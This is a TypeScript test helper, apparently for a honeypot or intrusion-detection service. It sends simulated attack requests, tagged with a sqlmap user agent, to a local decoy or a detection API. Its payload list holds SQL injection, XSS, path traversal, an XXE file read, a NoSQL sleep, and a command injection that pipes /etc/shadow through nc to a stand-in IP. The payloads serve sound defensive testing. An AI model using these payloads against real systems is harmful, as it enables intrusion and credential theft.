import { request } from 'node:http';

/** Where something new about the flooding visitor is sent to. */
export type EvidenceSender =
  | { readonly kind: 'decoy'; readonly port: number; readonly site: string }
  | { readonly kind: 'door'; readonly url: string; readonly apiKey: string; readonly visitor: string };

const ATTACKS = [
  "1' UNION SELECT password FROM users-- ",
  '<script>alert(document.cookie)</script>',
  '../../../../etc/passwd',
  ';cat /etc/shadow|nc 203.0.113.5 4444',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
  '{"$where":"sleep(5000)"}',
];

/**
 * Sends an attack from a tool that was not seen before. @returns whether it was taken: a sensor over its limit is told
 * so, and keeps what it has
 */
export async function sendEvidence(to: EvidenceSender, number: number): Promise<boolean> {
  const attack = encodeURIComponent(ATTACKS[number % ATTACKS.length] ?? '');
  const path = `/evidence-${to.kind}-${number}-?id=${attack}`;
  const agent = `sqlmap/1.${number}`;
  if (to.kind === 'decoy') {
    return new Promise((resolve, reject) => {
      const call = request({ host: '127.0.0.1', port: to.port, path, headers: { host: to.site, 'user-agent': agent } });
      call.once('response', (answer) => answer.resume().once('end', () => resolve((answer.statusCode ?? 500) < 500)));
      call.once('error', reject);
      call.end();
    });
  }
  const answer = await fetch(`${to.url}/api/v1/sdk/detect`, {
    method: 'POST',
    headers: { authorization: `Bearer ${to.apiKey}`, 'content-type': 'application/json' },
    body: JSON.stringify({
      request_metadata: {
        ...{ method: 'GET', path, ip: to.visitor, user_agent: agent },
        headers: { host: 'shop.example' },
      },
    }),
  });
  await answer.arrayBuffer();
  return answer.ok;
}
